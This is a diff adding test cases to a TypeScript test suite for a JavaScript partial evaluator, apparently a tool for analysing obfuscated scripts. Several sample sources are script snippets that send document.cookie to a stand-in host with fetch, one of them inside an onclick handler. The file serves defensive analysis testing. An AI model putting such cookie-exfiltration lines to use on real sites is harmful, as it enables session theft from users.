@@ -193,6 +193,35 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     source: `(function(a,b){fetch(b+'/x?'+document.cookie)})(...location.hash.split(','),'https://h.example','https://other.example')`,
     has: ["fetch(b+'/x?'+document.cookie)"],
   },
+  {
+    name: 'a branch on a name given a function later keeps its code',
+    source: `var go=1;if(go===1){fetch('https://h.example/1')}go=function(){}
+      var on=1;!function(){if(on===1){fetch('https://h.example/2')}}();on=function(){}`,
+    has: ["fetch('https://h.example/1')", "fetch('https://h.example/2')"],
+  },
+  {
+    name: 'a call of the sample’s own function reads its globals as they were when it ran',
+    source: `var flag=1;function f(){return flag}if(f()){fetch('https://h.example/1')}flag=0`,
+    has: ["fetch('https://h.example/1')"],
+  },
+  {
+    name: 'an array read before a later write is not given the later value',
+    source: `var t=['https://h.example/a'];fetch(t[0]);t[0]='https://h.example/b'
+      var u=['https://h.example/c'];fetch(u[0]);u=['https://h.example/d']`,
+    has: ['fetch(t[0])', 'fetch(u[0])'],
+    not: ['"https://h.example/b"', '"https://h.example/d"'],
+  },
+  {
+    name: 'a parameter replaced by a function later in the body is read as it was',
+    source: `var P=function(){function a(){}a.parse=function(a,g){a=g?a.indexOf('^'):a.indexOf('!');var m=-1===a?0:a*2;a=function(){return m};return a()};return a}();fetch('/x?'+P.parse(location.hash,1))`,
+    has: ['-1===a?0:a*2'],
+  },
+  {
+    name: 'code that runs after the last write reads the last value',
+    source: `var t=['https://h.example/a'];t[0]='https://h.example/b';fetch(t[0]+'?'+document.cookie)
+      var u=['https://h.example/c'];onclick=function(){fetch(u[0]+'?'+document.cookie)};u=['https://h.example/d']`,
+    has: ['fetch("https://h.example/b?"+', 'fetch("https://h.example/d?"+'],
+  },
 ]
 
 describe('partial evaluator', () => {
